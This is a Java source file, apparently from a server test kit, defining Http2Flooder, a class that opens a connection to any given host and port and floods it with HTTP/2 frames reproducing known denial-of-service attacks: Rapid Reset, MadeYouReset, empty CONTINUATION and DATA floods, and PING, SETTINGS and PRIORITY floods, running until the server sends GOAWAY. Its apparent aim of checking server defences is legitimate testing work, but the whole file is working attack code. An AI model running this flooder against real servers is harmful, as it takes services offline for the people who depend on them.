package dev.weft.testkit;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.function.IntFunction;

/**
 * One HTTP/2 connection that costs its server more than its client: the same few frames over and over, while all answers are
 * read, until the server has had enough of it. What each kind is called after is in RFC 9113 §10.5 and the advisories of
 * 2019 to 2025 (CVE-2019-9512 to 9518, CVE-2023-44487, CVE-2024-27316, CVE-2025-8671).
 */
public final class Http2Flooder {
    /** What is sent over and over, given how many times before. */
    public enum Kind {
        RAPID_RESET(i -> concat(get(stream(i)), frame(RST_STREAM, 0, stream(i), number(CANCEL)))),
        MADE_YOU_RESET(i -> concat(get(stream(i)), frame(WINDOW_UPDATE, 0, stream(i), number(0)))),
        EMPTY_CONTINUATION(
                i -> i == 0 ? frame(HEADERS, END_STREAM, 1, fields(GET)) : frame(CONTINUATION, 0, 1, new byte[0])),
        EMPTY_DATA(i -> i == 0 ? frame(HEADERS, END_HEADERS, 1, fields(POST)) : frame(DATA, 0, 1, new byte[0])),
        PING(i -> frame(PING_FRAME, 0, 0, new byte[8])),
        SETTINGS(i -> frame(SETTINGS_FRAME, 0, 0, new byte[0])),
        PRIORITY(i -> frame(PRIORITY_FRAME, 0, 1, new byte[] {0, 0, 0, 3, 16}));

        private final IntFunction<byte[]> frames;

        Kind(IntFunction<byte[]> frames) {
            this.frames = frames;
        }
    }

    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int PRIORITY_FRAME = 2;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS_FRAME = 4;
    private static final int PING_FRAME = 6;
    private static final int GOAWAY = 7;
    private static final int WINDOW_UPDATE = 8;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int CANCEL = 8;
    // Indices of RFC 7541, appendix A.
    private static final int GET = 0x82;
    private static final int POST = 0x83;

    private static final int AT_ONCE = 50;
    private static final int TIMEOUT_MILLIS = 10_000;

    private volatile int goAway = -1;
    private volatile boolean closed;

    /**
     * How it ended.
     *
     * @param sent how often the frames were written; more than were read, since the kernels' buffers are between
     * @param goAway the error code of the server's GOAWAY, -1 without one
     */
    public record End(int sent, int goAway) {}

    private Http2Flooder() {}

    /** Floods until the server ends the connection or {@code most} were sent and answered by nothing that would end it. */
    public static End flood(String host, int port, Kind kind, int most) throws IOException {
        return new Http2Flooder().run(host, port, kind, most);
    }

    private End run(String host, int port, Kind kind, int most) throws IOException {
        int sent = 0;
        try (Socket socket = new Socket(host, port)) {
            socket.setTcpNoDelay(true);
            socket.setSoTimeout(TIMEOUT_MILLIS);
            DataInputStream in = new DataInputStream(socket.getInputStream());
            Thread reader = Thread.ofVirtual().start(() -> read(in));
            OutputStream out = socket.getOutputStream();
            out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            out.write(frame(SETTINGS_FRAME, 0, 0, new byte[0]));
            try {
                while (sent < most && goAway < 0 && !closed) {
                    ByteArrayOutputStream some = new ByteArrayOutputStream();
                    for (int i = 0; i < AT_ONCE; i++) {
                        some.writeBytes(kind.frames.apply(sent++));
                    }
                    out.write(some.toByteArray());
                }
                if (sent >= most && goAway < 0) {
                    socket.shutdownOutput(); // a server that has had enough says so before it answers this
                }
            } catch (IOException e) {
                closed = true; // the end has come while we wrote; what it said before is still to be read
            }
            reader.join();
        } catch (InterruptedException e) {
            throw new IOException(e);
        }
        return new End(sent, goAway);
    }

    private void read(DataInputStream in) {
        try {
            for (; ; ) {
                int length = in.readUnsignedByte() << 16 | in.readUnsignedShort();
                int type = in.readUnsignedByte();
                in.skipNBytes(5);
                byte[] payload = in.readNBytes(length);
                if (type == GOAWAY) {
                    goAway = ByteBuffer.wrap(payload).getInt(4);
                }
            }
        } catch (IOException e) {
            closed = true;
        }
    }

    private static int stream(int i) {
        return 2 * i + 1;
    }

    private static byte[] get(int stream) {
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, fields(GET));
    }

    /** A request for /flood, without use of the dynamic table. */
    private static byte[] fields(int method) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(method);
        out.write(0x86); // :scheme http
        literal(out, 4, "/flood"); // :path
        literal(out, 1, "flood"); // :authority
        return out.toByteArray();
    }

    private static void literal(ByteArrayOutputStream out, int name, String value) {
        out.write(name);
        out.write(value.length());
        out.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .put((byte) (payload.length >> 16))
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    private static byte[] number(int value) {
        return ByteBuffer.allocate(4).putInt(value).array();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        return ByteBuffer.allocate(a.length + b.length).put(a).put(b).array();
    }
}
